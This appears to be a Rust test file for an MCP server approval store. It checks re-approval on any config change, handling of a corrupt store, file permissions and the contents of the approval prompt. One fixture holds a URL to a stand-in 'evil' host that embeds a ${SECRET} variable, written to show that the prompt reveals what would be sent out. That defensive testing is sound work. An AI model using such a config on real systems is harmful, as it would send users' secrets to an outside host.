use super::*;
use crate::load::{
    Standing,
    world::{World, one},
};
use std::fs;

fn standing(world: &World) -> (Standing, Option<String>) {
    let loaded = world.load();
    (
        loaded.servers[0].standing.clone(),
        loaded.servers[0].because.clone(),
    )
}

#[test]
fn any_change_of_an_approved_entry_asks_again() {
    let entry = json!({"type": "stdio", "command": "sh", "args": ["-c", "x"], "env": {"K": "${V}"}, "cwd": ".",
        "timeout": 5, "headersHelper": "/bin/h", "oauth": {"clientId": "a"}, "headers": {"H": "1"}, "alwaysLoad": false});
    let edits = [
        ("command", json!("ls")),
        ("args", json!(["-c", "y"])),
        ("env", json!({"K": "${W}"})),
        ("env", json!({"L": "${V}"})),
        ("cwd", json!("..")),
        ("type", json!("http")),
        ("headers", json!({"H": "2"})),
        ("headersHelper", json!("/bin/other")),
        ("oauth", json!({"clientId": "b"})),
        ("url", json!("https://x")),
        ("unknown", json!(1)),
    ];
    for (field, value) in edits {
        let world = World::new();
        let file = |entry: &Value| json!({"mcpServers": {"p": entry}});
        world.write("home/repo/.mcp.json", &file(&entry));
        assert_eq!(standing(&world).0, Standing::PendingApproval);
        world.approve();
        assert_eq!(standing(&world).0, Standing::Active);
        let mut changed = entry.clone();
        changed[field] = value;
        world.write("home/repo/.mcp.json", &file(&changed));
        let (standing_now, because) = standing(&world);
        assert_eq!(standing_now, Standing::PendingApproval, "{field}");
        let because = because.unwrap();
        assert!(
            because.starts_with("changed since you approved it: ") && because.contains(field),
            "{because}"
        );
        world.write("home/repo/.mcp.json", &file(&entry));
        assert_eq!(standing(&world).0, Standing::Active);
    }
}

#[test]
fn the_order_of_keys_is_no_change() {
    let world = World::new();
    world.write(
        "home/repo/.mcp.json",
        &json!({"mcpServers": {"p": {"command": "sh", "args": []}}}),
    );
    world.approve();
    world.write(
        "home/repo/.mcp.json",
        &json!({"mcpServers": {"p": {"args": [], "command": "sh"}}}),
    );
    assert_eq!(standing(&world).0, Standing::Active);
}

#[test]
fn another_directory_or_another_program_is_another_server() {
    let mut world = World::new();
    world.write("home/repo/.mcp.json", &one("p", "sh"));
    world.approve();
    let loaded = world.load();
    let program = loaded.servers[0].entry.program.clone().unwrap();
    assert!(program.ends_with("sh") && program.is_absolute());
    // Elsewhere on the search path.
    let bin = world.path("bin");
    fs::create_dir(&bin).unwrap();
    std::os::unix::fs::symlink("/bin/sh", bin.join("sh")).unwrap();
    let usual = world.places.path.clone();
    world.places.path = bin.clone().into_os_string();
    let (now, because) = standing(&world);
    assert_eq!(
        (now, because.as_deref()),
        (
            Standing::PendingApproval,
            Some("changed since you approved it: (program)")
        )
    );
    world.places.path = usual;
    // The same text in another directory.
    fs::remove_file(world.path("home/repo/.mcp.json")).unwrap();
    world.write("home/repo/sub/.mcp.json", &one("p", "sh"));
    assert_eq!(standing(&world).0, Standing::PendingApproval);
}

#[test]
fn a_corrupt_store_approves_nothing_and_is_kept() {
    let world = World::new();
    world.write("home/repo/.mcp.json", &one("p", "sh"));
    world.write(
        "home/.claude/settings.json",
        &json!({"enableAllProjectMcpServers": true}),
    );
    let file = world.places.approvals();
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(&file, "{").unwrap();
    let loaded = world.load();
    assert_eq!(loaded.servers[0].standing, Standing::PendingApproval);
    assert!(
        loaded.faults[0].1.to_string().contains("approvals.json"),
        "{:?}",
        loaded.faults
    );
    assert!(Store::decide(&file, &[]).is_err());
    assert_eq!(fs::read_to_string(&file).unwrap(), "{");
}

#[test]
fn decisions_are_kept_for_the_user_alone_and_forgotten_on_request() {
    use std::os::unix::fs::PermissionsExt;
    let world = World::new();
    world.write("home/repo/.mcp.json", &one("p", "sh"));
    let binding = Binding::of(&world.load().servers[0].entry, &world.places);
    let file = world.places.approvals();
    Store::decide(&file, &[(binding.clone(), false)]).unwrap();
    assert_eq!(
        fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(standing(&world).0, Standing::Rejected);
    assert_eq!(
        Store::forget(&file, std::slice::from_ref(&binding.directory)).unwrap(),
        1
    );
    assert_eq!(standing(&world).0, Standing::PendingApproval);
    assert_eq!(Store::forget(&file, &[binding.directory]).unwrap(), 0);
}

#[test]
fn the_prompt_shows_all_that_matters_and_expands_nothing() {
    let world = World::new();
    fs::write(world.path("home/repo/sub/server.js"), "").unwrap();
    world.write("home/repo/.mcp.json", &json!({"mcpServers": {
        "p": {"command": "sh", "args": ["server.js", "${PATH}"], "env": {"T": "${HOME:-x}"}},
        "q": {"url": "https://evil/?s=${SECRET}", "headers": {"A": "${B}"}, "headersHelper": "./h ${C}"}}}));
    let loaded = world.load();
    let local = Prompt::of(&loaded.servers[0].entry, &world.places);
    assert_eq!(local.argv, ["sh", "server.js", "${PATH}"]);
    assert_eq!(
        local.from_the_repository,
        [world.path("home/repo/sub/server.js")]
    );
    let reads: Vec<String> = local
        .reads
        .iter()
        .map(|read| format!("{} {} {}", read.variable, read.field, read.to))
        .collect();
    assert_eq!(reads, ["PATH args[1] sh", "HOME env.T sh"]);
    let remote = Prompt::of(&loaded.servers[1].entry, &world.places);
    assert_eq!(remote.helpers, ["./h ${C}"]);
    let reads: Vec<&str> = remote
        .reads
        .iter()
        .map(|read| read.variable.as_str())
        .collect();
    assert_eq!(reads, ["SECRET", "B", "C"]);
}
